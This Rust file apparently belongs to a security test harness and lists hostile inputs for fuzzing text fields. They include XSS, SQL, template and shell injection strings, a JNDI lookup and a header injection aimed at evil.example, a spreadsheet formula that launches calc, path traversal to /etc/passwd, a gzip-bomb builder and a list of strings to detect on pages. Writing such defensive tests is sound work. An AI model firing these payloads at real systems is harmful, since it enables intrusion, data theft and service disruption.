//! What is thrown at any door that takes words. What only one kind of door understands stands there.

use super::matrix::Attack;

/// Stands in every text that must never reach a log.
pub const CANARY: &str = "kanareyka1337";

/// Texts of an attack, each for a field, a cell, a title or a name.
pub fn texts(attack: Attack) -> Vec<String> {
    let own = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect();
    match attack {
        Attack::Oversized => vec!["x".repeat(10_000), "вода ".repeat(20_000)],
        Attack::Malformed => own(&["", " ", "\"", "{\"", "<", "&", "\\", "'"]),
        Attack::WrongType => own(&[
            "NaN",
            "-1",
            "0",
            "9223372036854775807",
            "-9223372036854775808",
            "99999999999999999999999",
            "1e999",
            "true",
            "null",
            "[]",
            "{}",
            "٣٤",
            "292277026596-12-04T15:30:07Z",
            "-9999-01-01",
        ]),
        // The bytes of these are put in by the doors that take bytes.
        Attack::Encoding => own(&["\u{fffd}", "\u{feff}вода", "Ð²Ð¾Ð´Ð°", "\u{10ffff}\u{fffe}"]),
        Attack::Markup => own(&[
            "<script>alert(1337)</script> kanareyka1337",
            "\"><img src=x onerror=alert(1337)> kanareyka1337",
            "' onmouseover='alert(1337)' kanareyka1337",
            "</title></textarea><svg/onload=alert(1337)>",
            "javascript:alert(1337)",
            "data:text/html,<script>alert(1337)</script>",
            "<![CDATA[<b>]]><!-- <iframe src=//evil.example>",
        ]),
        Attack::Control => own(&[
            "\0",
            "нет\0воды kanareyka1337",
            "\u{1b}[2J\u{1b}]0;kanareyka1337\u{7}\u{8}\u{8}",
            "\u{9b}31mkanareyka1337\u{7f}",
            "вода\r\nSet-Cookie: kanareyka1337=1\r\n\r\n<html>",
            "вода\r\nBcc: all@evil.example",
            "\u{202e}gpj.exe\u{2066}kanareyka1337\u{2069}\u{200f}",
            "во\u{200b}да\u{2060}\u{feff}",
            "\u{2028}вода\u{2029}",
        ]),
        Attack::Meta => own(&[
            "'; drop table post; -- kanareyka1337",
            "' or '1'='1",
            "\\'; delete from incident; --",
            "1) union select password from account --",
            "{{1337*1337}}",
            "${1337*1337} #{1337*1337} <%= 1337*1337 %>",
            "{% include \"/etc/passwd\" %}",
            "{ $v } { -term } { 1337 ->",
            "=cmd|'/C calc'!A1",
            "+1337+1",
            "@SUM(1)",
            "$(id) `id` ;id |id",
            "%s%n%x ${jndi:ldap://evil.example}",
        ]),
        Attack::Path => own(&[
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "//evil.example/",
            "file:///etc/passwd",
            "....//....//etc/passwd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        ]),
        // The others are no words: doors that take bytes make them.
        _ => Vec::new(),
    }
}

/// Bytes that are no text in UTF-8, percent-encoded.
pub const BROKEN: [&str; 8] = [
    "%FF%FE",
    "%C0%AF",
    "%ED%A0%80",
    "%F8%88%80%80%80",
    "%",
    "%zz",
    "%00",
    "%E2%82",
];

/// What a page shows only when it forgot to escape or evaluated what it was given.
pub const NEVER_ON_A_PAGE: [&str; 9] = [
    "<script>alert",
    "<img src=x",
    "<svg/onload",
    "<iframe",
    "' onmouseover='",
    "href=\"javascript:",
    "href=\"data:",
    "1787569",
    "root:x:0:0",
];

/// A gibibyte of one character, packed by gzip into a mebibyte.
pub fn gigabyte_in_gzip() -> Vec<u8> {
    use flate2::{Compress, Compression, FlushCompress, Status};
    let plain = vec![b' '; 1 << 20];
    let mut packer = Compress::new(Compression::best(), false);
    let mut block = Vec::with_capacity(1 << 16);
    // A full flush ends at a byte and forgets what was before: the block may be repeated.
    let mut last = Vec::new();
    for _ in 0..2 {
        block.clear();
        let status = packer
            .compress_vec(&plain, &mut block, FlushCompress::Full)
            .unwrap();
        assert_eq!(status, Status::Ok);
        last.clone_from(&block);
    }
    let mut packed = vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255];
    for _ in 0..1024 {
        packed.extend_from_slice(&last);
    }
    packed
}
